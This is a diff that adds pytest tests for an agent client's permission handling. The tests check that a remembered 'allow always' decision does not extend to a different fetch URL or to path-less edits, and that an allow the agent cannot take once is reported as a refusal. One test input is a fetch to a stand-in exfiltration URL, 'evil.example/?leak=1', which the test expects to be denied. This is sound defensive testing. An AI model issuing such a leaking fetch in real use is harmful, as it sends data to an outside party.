@@ -16,7 +16,7 @@ from pathlib import Path
 
 import pytest
 
-from oauthpy import Client, CommandExecutionError, ProtocolError
+from oauthpy import Client, CommandExecutionError, Decision, EventKind, PermissionRequest, ProtocolError
 from oauthpy.testing import new_marker
 from tests.support import assert_no_leftovers
 
@@ -124,3 +124,70 @@ def test_notifications_for_a_session_nobody_opened_are_not_held(tmp_path: Path) 
     peak, said = _peak_mb(tmp_path, command, runs=3)
     assert said == "ok\nok\nok", said
     assert peak < 250, f"peak {peak} MB"
+
+
+#: an agent that asks each question of ASKS in turn and says what it was answered
+_ASKING = """
+def on_prompt(rid, sid):
+    told = []
+    for n, (call, options) in enumerate(ASKS):
+        send({"jsonrpc": "2.0", "id": 100 + n, "method": "session/request_permission", "params": {
+            "sessionId": sid, "toolCall": {"toolCallId": f"c{n}", "status": "pending", **call},
+            "options": [{"optionId": o, "name": o, "kind": o} for o in options]}})
+        while True:
+            msg = json.loads(sys.stdin.readline())
+            if msg.get("id") == 100 + n:
+                outcome = msg["result"]["outcome"]
+                told.append(outcome.get("optionId", outcome["outcome"]))
+                break
+    send({"jsonrpc": "2.0", "method": "session/update", "params": {"sessionId": sid, "update": {
+        "sessionUpdate": "agent_message_chunk", "content": {"type": "text", "text": json.dumps(told)}}}})
+    send({"jsonrpc": "2.0", "id": rid, "result": {"stopReason": "end_turn"}})
+"""
+_ALL = ["allow_once", "allow_always", "reject_once"]
+
+
+def _asking_agent(tmp_path: Path, asks: list[tuple[dict[str, object], list[str]]]) -> list[str]:
+    return _agent(tmp_path, f"ASKS = {asks!r}\n" + _ASKING)
+
+
+def test_allow_always_for_one_tool_input_does_not_cover_another(tmp_path: Path) -> None:
+    fetch = {"kind": "fetch", "title": "fetch"}
+    command = _asking_agent(
+        tmp_path,
+        [
+            ({**fetch, "rawInput": {"url": "https://docs.example/a"}}, _ALL),
+            ({**fetch, "rawInput": {"url": "https://evil.example/?leak=1"}}, _ALL),
+            ({**fetch, "rawInput": {"url": "https://docs.example/a"}}, _ALL),
+        ],
+    )
+    asked: list[object] = []
+
+    def callback(request: PermissionRequest) -> Decision:
+        asked.append(request.raw["toolCall"]["rawInput"]["url"])  # type: ignore[index]
+        return Decision.ALLOW_ALWAYS if len(asked) == 1 else Decision.DENY
+
+    result = Client("acp", command=command).run("go", cwd=tmp_path, on_permission=callback, timeout=30)
+    assert asked == ["https://docs.example/a", "https://evil.example/?leak=1"]  # the third remembered
+    assert json.loads(result.text) == ["allow_once", "reject_once", "allow_once"]
+
+
+def test_a_change_that_names_no_path_is_never_remembered(tmp_path: Path) -> None:
+    command = _asking_agent(tmp_path, [({"kind": "edit", "title": "edit"}, _ALL)] * 2)
+    asked: list[PermissionRequest] = []
+
+    def callback(request: PermissionRequest) -> Decision:
+        asked.append(request)
+        return Decision.ALLOW_ALWAYS if len(asked) == 1 else Decision.DENY
+
+    result = Client("acp", command=command).run("go", cwd=tmp_path, on_permission=callback, timeout=30)
+    assert [r.kind for r in asked] == ["file_change", "file_change"]
+    assert json.loads(result.text) == ["allow_once", "reject_once"]
+
+
+def test_an_allow_the_agent_cannot_take_once_is_reported_as_the_refusal_it_was(tmp_path: Path) -> None:
+    command = _asking_agent(tmp_path, [({"kind": "execute", "title": "touch x"}, ["allow_always", "reject_once"])])
+    result = Client("acp", command=command).run("go", cwd=tmp_path, on_permission=lambda r: True, timeout=30)
+    assert json.loads(result.text) == ["reject_once"]
+    [event] = [e for e in result.events if e.kind is EventKind.PERMISSION]
+    assert event.status == "denied" and "no way to allow it once" in (event.output or "")
